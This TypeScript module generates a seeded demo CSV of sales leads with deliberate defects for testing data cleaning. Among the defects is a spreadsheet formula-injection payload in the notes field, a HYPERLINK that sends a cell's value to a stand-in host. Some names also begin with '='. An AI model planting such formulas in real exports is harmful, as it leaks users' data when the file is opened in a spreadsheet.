/**
 * The leads of workflows/demo-leads.csv: a thousand rows with the defects of real lists, the same
 * on every run. US and London numbers are in the ranges reserved for fiction (555-0100 to 555-0199,
 * 020 7946 0xxx); India has no such range, so its numbers are invented.
 */

const ROWS = 1000;
const SEED = 20_261_121;

const COLUMNS = [
	'lead_id',
	'first_name',
	'last_name',
	'phone',
	'state',
	'zip',
	'email',
	'source',
	'signed_up_at',
	'notes',
] as const;

export type DemoLead = Record<(typeof COLUMNS)[number], string>;

interface Place {
	areaCode: string;
	state: string;
	stateName: string;
	zipPrefix: string;
}

const PLACES: Place[] = [
	['201', 'NJ', 'New Jersey', '070'],
	['617', 'MA', 'Massachusetts', '021'],
	['203', 'CT', 'Connecticut', '065'],
	['212', 'NY', 'New York', '100'],
	['305', 'FL', 'Florida', '331'],
	['312', 'IL', 'Illinois', '606'],
	['415', 'CA', 'California', '941'],
	['213', 'CA', 'California', '900'],
	['512', 'TX', 'Texas', '787'],
	['713', 'TX', 'Texas', '770'],
	['206', 'WA', 'Washington', '981'],
	['509', 'WA', 'Washington', '992'],
	['503', 'OR', 'Oregon', '972'],
	['720', 'CO', 'Colorado', '802'],
	['801', 'UT', 'Utah', '841'],
	['602', 'AZ', 'Arizona', '850'],
	['702', 'NV', 'Nevada', '891'],
	['404', 'GA', 'Georgia', '303'],
	['215', 'PA', 'Pennsylvania', '191'],
	['614', 'OH', 'Ohio', '432'],
].map(([areaCode = '', state = '', stateName = '', zipPrefix = '']) => ({
	areaCode,
	state,
	stateName,
	zipPrefix,
}));

const FIRST_NAMES = (
	'Maria,James,Aisha,José,Zoë,Łukasz,Nguyễn,Siobhán,Renée,Jürgen,Priya,Liam,Olivia,Noah,Emma,Søren,' +
	'François,Chloë,D’Andre,Mary Ann,Jean-Luc,Ana Lucía,Oğuz,Håkon,李,Ольга'
).split(',');
const LAST_NAMES = (
	"Garcia,O'Brien,Smith,Müller,Nowak,Da Silva,Van der Berg,Johnson,Lee,Patel,Núñez,Ångström,Kim," +
	'Williams,Brown,St. John,Okonkwo,Fernández-López,Tran,Cohen,McDonald,Ibrahim,Žižek,Sánchez'
).split(',');
const SOURCES = ['web form', 'facebook', 'google ads', 'referral', 'trade show', 'partner list'];
const notes = [
	'',
	'',
	'',
	'Call after 5pm',
	'Asked for "the solar offer", not the loan',
	'Prefers e-mail, but phone is fine',
	'Two lines:\nroof is new\nwants a quote',
	'Very keen 🔥',
	'left voicemail; call back',
];

/** Spellings of a US number; the three parts are area code, exchange and line. */
const US_SPELLINGS: Array<(area: string, exchange: string, line: string) => string> = [
	(a, e, l) => `(${a}) ${e}-${l}`,
	(a, e, l) => `${a}-${e}-${l}`,
	(a, e, l) => `${a}.${e}.${l}`,
	(a, e, l) => `${a} ${e} ${l}`,
	(a, e, l) => `${a}${e}${l}`,
	(a, e, l) => `1${a}${e}${l}`,
	(a, e, l) => `1-${a}-${e}-${l}`,
	(a, e, l) => `+1 ${a} ${e} ${l}`,
	(a, e, l) => `+1${a}${e}${l}`,
	(a, e, l) => `+1 (${a}) ${e}-${l}`,
	(a, e, l) => `  ${a}-${e}-${l} `,
	(a, e, l) => `'${a}${e}${l}`,
	(a, e, l) => `${a}\u00a0${e}\u2011${l}`,
	(a, e, l) => `${a}-${e}-${l} ext. 12`,
	(a, e, l) => `(${a}) ${e}-${l} x301`,
	(a, e, l) => `tel:+1-${a}-${e}-${l}`,
];

type Pick = <Value>(values: readonly Value[]) => Value;

/** Picks with a pseudorandom generator (mulberry32): the same seed gives the same leads. */
function seededPick(seed: number): Pick {
	let state = seed;
	const next = () => {
		state = (state + 0x6d2b79f5) | 0;
		let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
		mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
	};
	return <Value>(values: readonly Value[]) => {
		const value = values[Math.floor(next() * values.length)];
		if (value === undefined) throw new Error('There are no values to pick from');
		return value;
	};
}

const digits = (value: number, width: number) => String(value).padStart(width, '0');

const placeOf = (person: number) => PLACES[person % PLACES.length] as Place;

/** The number of the nth person, in one of the spellings. */
function usPhone(person: number, pick: Pick): string {
	const line = digits(100 + (Math.floor(person / PLACES.length) % 100), 4);
	return pick(US_SPELLINGS)(placeOf(person).areaCode, '555', line);
}

/** A row without defects, in one of the valid spellings. */
function makePerson(index: number, pick: Pick): DemoLead {
	const { state, stateName, zipPrefix } = placeOf(index);
	const zip = zipPrefix + digits(index % 100, 2);
	const signedUpAt = new Date(Date.UTC(2026, 8, 1, 8) + index * 47 * 60_000);
	return {
		lead_id: `LD-${digits(index + 1, 5)}`,
		first_name: pick(FIRST_NAMES),
		last_name: pick(LAST_NAMES),
		phone: usPhone(index, pick),
		state: pick([state, state, state, state.toLowerCase(), stateName]),
		// Spreadsheets read a ZIP code as a number and drop its leading zero.
		zip: pick([zip, zip, String(Number(zip)), `${zip}-${digits(index, 4)}`]),
		email: `lead${index + 1}@example.com`,
		source: pick(SOURCES),
		signed_up_at: signedUpAt.toISOString(),
		notes: pick(notes),
	};
}

interface Defect {
	/** The number of rows that get it. */
	count: number;
	changes(lead: DemoLead, nth: number): Partial<DemoLead>;
}

const INVALID_NUMBERS = ['n/a', '555-0142', '12345', '000-000-0000', '2.06556E+09', 'see e-mail'];

const DEFECTS: Defect[] = [
	{ count: 14, changes: () => ({ phone: '' }) },
	{ count: 10, changes: () => ({ state: '' }) },
	{ count: 6, changes: () => ({ state: 'XX' }) },
	{ count: 3, changes: () => ({ state: 'n/a' }) },
	{ count: 8, changes: (_lead, nth) => ({ phone: INVALID_NUMBERS[nth % INVALID_NUMBERS.length] }) },
	{ count: 12, changes: (_lead, nth) => ({ phone: `+44 20 7946 0${digits(nth, 3)}` }) },
	{ count: 6, changes: (_lead, nth) => ({ phone: `011 44 20 7946 0${digits(500 + nth, 3)}` }) },
	{ count: 10, changes: (_lead, nth) => ({ phone: `+91 98765 ${digits(43_200 + nth, 5)}` }) },
	{ count: 5, changes: (lead) => ({ first_name: `${lead.first_name} 🎉` }) },
	{ count: 3, changes: (lead) => ({ last_name: `${lead.last_name}, Jr. "Junior"` }) },
	{ count: 3, changes: () => ({ notes: '=HYPERLINK("http://example.com/?leak="&A1,"Click me")' }) },
	{ count: 2, changes: (lead) => ({ last_name: `=${lead.last_name}` }) },
	{ count: 4, changes: (lead) => ({ first_name: `'${lead.first_name}` }) },
	{ count: 4, changes: () => ({ email: '', zip: '' }) },
];

/** Every 25th row repeats a person from further up, with another spelling of the number. */
const DUPLICATE_EVERY = 25;
const NEW_ID_EVERY = 3;

function makeDuplicate(earlier: DemoLead, index: number, pick: Pick): DemoLead {
	const person = Number(earlier.lead_id.slice(3)) - 1;
	const duplicate = { ...earlier, phone: usPhone(person, pick), notes: 'came in a second time' };
	const hasNewId = (index / DUPLICATE_EVERY) % NEW_ID_EVERY === 0;
	return hasNewId ? { ...duplicate, lead_id: `LD-${digits(index + 1, 5)}` } : duplicate;
}

/** All the demo leads, in the order of the file. */
export function makeDemoLeads(): DemoLead[] {
	const pick = seededPick(SEED);
	const leads = Array.from({ length: ROWS }, (_, index) => makePerson(index, pick));

	const untouched = leads.map((_, index) => index).filter((index) => index % DUPLICATE_EVERY !== 0);
	for (const { count, changes } of DEFECTS) {
		for (let nth = 0; nth < count; nth++) {
			const index = pick(untouched);
			untouched.splice(untouched.indexOf(index), 1);
			const lead = leads[index] as DemoLead;
			leads[index] = { ...lead, ...changes(lead, nth) };
		}
	}
	for (let index = DUPLICATE_EVERY; index < ROWS; index += DUPLICATE_EVERY) {
		const earlier = pick(untouched.filter((candidate) => candidate < index));
		leads[index] = makeDuplicate(leads[earlier] as DemoLead, index, pick);
	}
	return leads;
}

function csvCell(text: string): string {
	return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** The demo leads as the text of workflows/demo-leads.csv. */
export function demoLeadsCsv(): string {
	const rows = makeDemoLeads().map((lead) => COLUMNS.map((column) => csvCell(lead[column])));
	return [COLUMNS, ...rows].map((row) => `${row.join(',')}\n`).join('');
}
